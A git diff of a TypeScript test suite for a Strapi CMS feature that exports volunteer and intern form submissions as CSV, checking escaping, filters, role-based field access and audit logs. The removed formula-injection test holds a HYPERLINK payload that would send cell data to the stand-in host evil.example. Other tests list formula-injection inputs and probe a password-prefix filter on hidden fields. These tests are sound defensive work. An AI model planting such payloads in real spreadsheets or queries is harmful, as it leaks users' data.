@@ -1,20 +1,12 @@
 import assert from 'node:assert/strict';
-import { after, test } from 'node:test';
-import { setTimeout as pause } from 'node:timers/promises';
-import { readCsv } from '../../scripts/schools/csv.ts';
-import { firstAdmin } from './admin.ts';
-import { at, call, list } from './http.ts';
-import { newPlace } from './place.ts';
-import { staffMember } from './staff.ts';
+import { test } from 'node:test';
+import Papa from 'papaparse';
+import { staffMember } from './admin.ts';
+import { at, list } from './http.ts';
+import { send as sendTo, shared } from './shared.ts';
 
-const place = await newPlace();
-const strapi = await place.start();
-after(async () => {
-  await strapi.stop();
-  await place.remove();
-});
-const admin = await firstAdmin(strapi);
-const coordinator = await staffMember(strapi.url, admin, 'Coordinator');
+const strapi = await shared();
+const { admin, coordinator } = strapi;
 
 const VOLUNTEERS = 'api::volunteer-form.volunteer-form';
 const volunteer = {
@@ -28,67 +20,22 @@ const volunteer = {
   selfDescription: '',
 };
 
-async function send(data: object, type = 'volunteer-form'): Promise<string> {
-  const reply = await call(`${strapi.url}/api/${type}s`, {
-    method: 'POST',
-    token: strapi.writeToken,
-    body: { data },
-  });
+async function send(data: object): Promise<string> {
+  const reply = await sendTo(strapi, 'volunteer-form', { data });
   assert.equal(reply.status, 201, reply.text);
   return String(at(reply.json, 'data', 'documentId'));
 }
 
 /** The file as a spreadsheet reads it: lines of cells, the header first. */
-async function exportOf(query = '', uid = VOLUNTEERS): Promise<readonly (readonly string[])[]> {
-  const reply = await call(`${strapi.url}/submissions/${uid}/export${query}`, {
-    token: coordinator.token,
-  });
+async function exportOf(query = '', uid = VOLUNTEERS, person = coordinator) {
+  const reply = await person.call('GET', `/submissions/${uid}/export${query}`);
   assert.equal(reply.status, 200, reply.text);
-  return readCsv(reply.text).rows.map(({ cells }) => cells);
+  return Papa.parse<string[]>(reply.text, { skipEmptyLines: true }).data;
 }
 
 function entry(documentId: string): string {
   return `/content-manager/collection-types/${VOLUNTEERS}/${documentId}`;
 }
-
-test('[7.2] whoever sends a form cannot set its status, its notes or its date', async () => {
-  const documentId = await send({ ...volunteer, progress: 'Done', notes: 'Let me in' });
-  const { json } = await admin.call('GET', entry(documentId));
-  assert.equal(at(json, 'data', 'progress'), 'New');
-  assert.equal(at(json, 'data', 'notes'), null);
-  for (const more of [
-    { createdAt: '2001-01-01T00:00:00.000Z' },
-    { createdBy: 1 },
-    { documentId: 'chosen-by-the-sender' },
-  ]) {
-    const body = { data: { ...volunteer, ...more } };
-    const token = strapi.writeToken;
-    await call(`${strapi.url}/api/volunteer-forms`, { method: 'POST', token, body });
-  }
-  const path = `/content-manager/collection-types/${VOLUNTEERS}?pageSize=100`;
-  for (const each of list((await admin.call('GET', path)).json, 'results')) {
-    assert.ok(Math.abs(Date.now() - Date.parse(String(at(each, 'createdAt')))) < 60_000);
-    assert.equal(at(each, 'createdBy'), null);
-    assert.notEqual(at(each, 'documentId'), 'chosen-by-the-sender');
-  }
-});
-
-test('entries from before there was a status are new ones', async () => {
-  await send({ ...volunteer, firstName: 'Earlier' });
-  await place.query("update volunteer_forms set progress = null where first_name = 'Earlier'");
-  const second = await place.start({
-    CMS_TOKEN: strapi.readToken,
-    CMS_WRITE_TOKEN: strapi.writeToken,
-  });
-  await second.stop();
-  const rows = await place.query(
-    "select progress from volunteer_forms where first_name = 'Earlier'",
-  );
-  assert.deepEqual(
-    rows.map(({ progress }) => progress),
-    ['New'],
-  );
-});
 
 test('the list shows the newest first, with status and date, and can be searched', async () => {
   const path = `/content-manager/content-types/${VOLUNTEERS}/configuration`;
@@ -124,7 +71,7 @@ test('an export has every field, plain words, and Tamil names that a spreadsheet
   });
   const [header, newest] = await exportOf('?timeZone=Asia/Kolkata');
   assert.deepEqual(header, [
-    'Received (Asia/Calcutta)',
+    'Received (Asia/Kolkata)',
     ...['Status', 'Notes', 'First name', 'Last name', 'E-mail', 'Mobile number', 'Student?'],
     ...['Field of study', 'Institution', 'About themselves'],
   ]);
@@ -147,22 +94,58 @@ test('an export can be narrowed to a status, a time and a search, as the list is
   const documentId = await send({ ...volunteer, firstName: 'Narrowed' });
   await coordinator.call('PUT', entry(documentId), { progress: 'Done' });
   const names = async (query: string) => (await exportOf(query)).slice(1).map((row) => row[3]);
-  assert.deepEqual(await names('?filters[$and][0][progress][$eq]=Done'), ['Narrowed']);
+  const done = await names('?filters[$and][0][progress][$eq]=Done');
+  assert.ok(done.includes('Narrowed') && !done.includes('கவின்'));
   assert.deepEqual(await names('?_q=narrow'), ['Narrowed']);
-  const tomorrow = new Date(Date.now() + 86_400_000).toISOString();
-  const yesterday = new Date(Date.now() - 86_400_000).toISOString();
-  assert.deepEqual(await names(`?filters[createdAt][$gt]=${tomorrow}`), []);
-  assert.ok((await names(`?filters[createdAt][$gt]=${yesterday}`)).length >= 3);
+  const since = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString();
+  assert.deepEqual(await names(`?filters[createdAt][$gt]=${since(1)}`), []);
+  assert.ok((await names(`?filters[createdAt][$gt]=${since(-1)}`)).includes('Narrowed'));
 });
 
-test('what would be a formula is text in the file, in every field', async () => {
-  const evil = `=HYPERLINK("https://evil.example?x="&A1,"Click")`;
-  const fields = ['firstName', 'lastName', 'fieldOfStudy', 'institutionName', 'selfDescription'];
-  const all = Object.fromEntries(fields.map((field) => [field, evil]));
-  await send({ ...volunteer, ...all, email: '@SUM(1+1)' });
-  const [, newest] = await exportOf();
-  for (const cell of newest ?? []) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/);
-  assert.equal(newest?.filter((cell) => cell === `'${evil}`).length, fields.length);
+test('what a spreadsheet could take for a formula is text in the file', async () => {
+  const starts = ['=1', '+1', '-1', '@SUM(A1)', '＝1', '－1', ' =1', '\u00a0=1', '\t=1', '\n=1'];
+  const evil = [...starts, '"=1', 'x;=1', 'x;"=1+1', 'x;" "\t@a', 'one\n=2', '\ttext'];
+  const harmless = ['a=b', 'a - b', 'he said "no", twice', 'x; y', 'so: -1', '","=1'];
+  for (const selfDescription of [...evil, ...harmless])
+    await send({ ...volunteer, selfDescription });
+  const rows = (await exportOf()).slice(1, 1 + evil.length + harmless.length).reverse();
+  const cells = rows.map((row) => row.at(-1) ?? '');
+  assert.deepEqual(cells.slice(evil.length), harmless);
+  for (const [index, cell] of cells.slice(0, evil.length).entries()) {
+    assert.equal(cell.replaceAll("'", ''), evil[index]);
+    assert.match(cell, /'/, cell);
+    // Read with another separator, or line by line, no part begins a formula.
+    assert.doesNotMatch(cell, /(?:^|[;\t\r\n])[\s"]*[=+\-@＝－]/, cell);
+  }
+  const evilField = { ...volunteer, firstName: '=1', email: '@SUM(1+1)', fieldOfStudy: '=1' };
+  await send(evilField);
+  for (const cell of (await exportOf())[1] ?? []) assert.doesNotMatch(cell, /^[=+\-@]/);
+});
+
+test('an export holds the fields that the role may see, and no others', async () => {
+  const read = 'plugin::content-manager.explorer.read';
+  const role = await admin.call('POST', '/admin/roles', { name: 'Caller', description: '' });
+  const id = at(role.json, 'data', 'id');
+  const permissions = [
+    { action: read, subject: VOLUNTEERS, properties: { fields: ['firstName'] }, conditions: [] },
+    { action: 'api::submissions.export', subject: null, properties: {}, conditions: [] },
+  ];
+  await admin.call('PUT', `/admin/roles/${id}/permissions`, { permissions });
+  const caller = await staffMember(strapi.url, admin, 'Caller');
+  const [header] = await exportOf('', VOLUNTEERS, caller);
+  assert.deepEqual(header, ['Received (UTC)', 'First name']);
+  const other = await caller.call('GET', '/submissions/api::intern-form.intern-form/export');
+  assert.equal(other.status, 403);
+  const users = list(
+    (await admin.call('GET', '/admin/users?pageSize=100')).json,
+    'data',
+    'results',
+  );
+  const ids = users
+    .filter((user) => at(user, 'firstname') === 'Caller')
+    .map((user) => at(user, 'id'));
+  await admin.call('POST', '/admin/users/batch-delete', { ids });
+  assert.equal((await admin.call('DELETE', `/admin/roles/${id}`)).status, 200);
 });
 
 test('a long list is exported whole, each entry once', async () => {
@@ -170,11 +153,14 @@ test('a long list is exported whole, each entry once', async () => {
   const rows = many.map(
     (index) => `('long-${index}', 'Long${index}', 'l@example.org', '9876501234', '0', 'New')`,
   );
-  await place.query(
+  await strapi.query(
     `insert into intern_forms (document_id, first_name, email, mobile_number, student, progress) values ${rows.join(', ')}`,
   );
   const exported = (await exportOf('', 'api::intern-form.intern-form')).slice(1);
-  assert.equal(new Set(exported.map((row) => row[3])).size, 450);
+  const names = exported.map((row) => row[3] ?? '').filter((name) => name.startsWith('Long'));
+  assert.equal(names.length, 450);
+  assert.equal(new Set(names).size, 450);
+  await strapi.query("delete from intern_forms where email = 'l@example.org'");
 });
 
 test('exports of other types than the four are not there', async () => {
@@ -184,23 +170,22 @@ test('exports of other types than the four are not there', async () => {
   }
 });
 
-test('a filter on what nobody may see is refused, and reveals nothing', async () => {
+test('a filter on hidden fields is refused, and reveals nothing', async () => {
   const reply = await coordinator.call(
     'GET',
     `/submissions/${VOLUNTEERS}/export?filters[createdBy][password][$startsWith]=a`,
   );
-  const rows = reply.status === 200 ? readCsv(reply.text).rows.length - 1 : 0;
+  const rows =
+    reply.status === 200 ? Papa.parse(reply.text, { skipEmptyLines: true }).data.length - 1 : 0;
   const all = (await exportOf()).length - 1;
   assert.ok(reply.status === 400 || rows === all, `${reply.status} with ${rows} of ${all}`);
 });
 
 test('the log tells who exported how many, and nothing of whom', async () => {
   await exportOf('?_q=kavin');
-  // What is printed arrives a moment after the reply.
-  await pause(500);
-  const log = strapi.output();
-  assert.match(log, /Audit: staff member \d+ exported \d+ volunteers/);
-  for (const word of ['Kavin', 'kavin', '98765', 'கவின்', 'evil']) {
+  await strapi.logs(/Audit: staff member \d+ exported \d+ volunteers/);
+  const log = await strapi.log();
+  for (const word of ['Kavin', 'kavin', 'கவின்']) {
     assert.ok(!log.includes(word), `${word} is in the log`);
   }
 });
